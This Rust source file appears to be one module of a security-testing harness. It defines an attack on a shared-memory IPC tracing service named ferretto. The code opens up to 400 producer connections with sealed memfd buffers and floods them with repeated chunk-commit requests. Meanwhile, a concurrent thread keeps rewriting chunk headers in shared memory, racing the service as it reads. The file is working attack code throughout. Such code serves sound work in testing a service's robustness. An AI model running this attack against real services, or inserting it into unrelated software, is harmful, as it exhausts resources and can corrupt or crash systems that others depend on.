//! Repeated commits of the largest chunks, by as many producers as possible: each is a few bytes to
//! send, and much to copy. Their memory is marked as complete again while the service reads it.

use std::os::fd::{AsFd as _, OwnedFd};
use std::sync::atomic::{AtomicBool, Ordering};

use ferretto_ipc::port::producer;
use ferretto_ipc::socket::Socket;
use ferretto_proto::commit_data_request::ChunksToMove;
use ferretto_proto::{CommitDataRequest, InitializeConnectionRequest};
use rustix::fs::{MemfdFlags, SealFlags, fcntl_add_seals, ftruncate};
use rustix::net::{SendFlags, send};

use crate::common::passing::pass;
use crate::common::{bind_frame, read_frame, send_raw};
use crate::frame::{Attack, Target, call};

pub(crate) const ATTACK: Attack = Attack::by_nobody(run);

const PRODUCERS: usize = 400;
/// Each page is one chunk.
const PAGE: u64 = 32 * 1024;
const PAGES: u64 = 8;

fn run(target: &Target) {
    let mut producers = Vec::new();
    while producers.len() < PRODUCERS {
        let Some(producer) = producer(target) else {
            break;
        };
        producers.push(producer);
    }
    assert!(!producers.is_empty());
    let moves = (0..PAGES).map(|page| ChunksToMove {
        page: Some(page as u32),
        chunk: Some(0),
        target_buffer: Some(1),
        ..Default::default()
    });
    let commit = call(
        &producer::Request::CommitData(CommitDataRequest {
            chunks_to_move: moves.collect(),
            ..Default::default()
        }),
        true,
    );
    let commits = commit.repeat(8192 / commit.len());
    let over = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !over.load(Ordering::Relaxed) {
                producers.iter().for_each(|(_, memory)| fill(memory));
            }
        });
        // A partly sent commit is continued with the next one.
        let mut sent = vec![0; producers.len()];
        while target.goes_on() {
            for ((socket, _), sent) in producers.iter().zip(&mut sent) {
                let flags = SendFlags::NOSIGNAL | SendFlags::DONTWAIT;
                *sent += send(socket, &commits[*sent..], flags).unwrap_or(0);
                *sent %= commits.len();
            }
        }
        over.store(true, Ordering::Relaxed);
    });
}

/// Marks all chunks as complete.
fn fill(memory: &OwnedFd) {
    // The page is one complete chunk; then a chunk of writer 1 with one fragment.
    let mut header = (1_u32 << 28 | 3).to_le_bytes().to_vec();
    header.extend([0; 4]);
    header.extend(7_u32.to_le_bytes());
    header.extend([1, 0, 1, 0]);
    for page in 0..PAGES {
        rustix::io::pwrite(memory, &header, page * PAGE).unwrap();
    }
}

/// Connects another producer with its memory; `None` if it is refused.
fn producer(target: &Target) -> Option<(Socket, OwnedFd)> {
    let flags = MemfdFlags::CLOEXEC | MemfdFlags::ALLOW_SEALING;
    let memory = rustix::fs::memfd_create("replayed", flags).unwrap();
    ftruncate(&memory, PAGES * PAGE).unwrap();
    let seals = SealFlags::SHRINK | SealFlags::GROW | SealFlags::SEAL;
    fcntl_add_seals(&memory, seals).unwrap();
    let initialize = call(
        &producer::Request::InitializeConnection(InitializeConnectionRequest {
            producer_name: Some("replaying".into()),
            producer_provided_shmem: Some(true),
            shared_memory_page_size_hint_bytes: Some(PAGE as u32),
            ..Default::default()
        }),
        false,
    );
    let socket = target.producer_socket()?;
    let bound = send_raw(&socket, &bind_frame("ProducerPort")) && read_frame(&socket).is_some();
    let known = bound && pass(&socket, &initialize, &[memory.as_fd()]);
    (known && read_frame(&socket).is_some()).then_some((socket, memory))
}
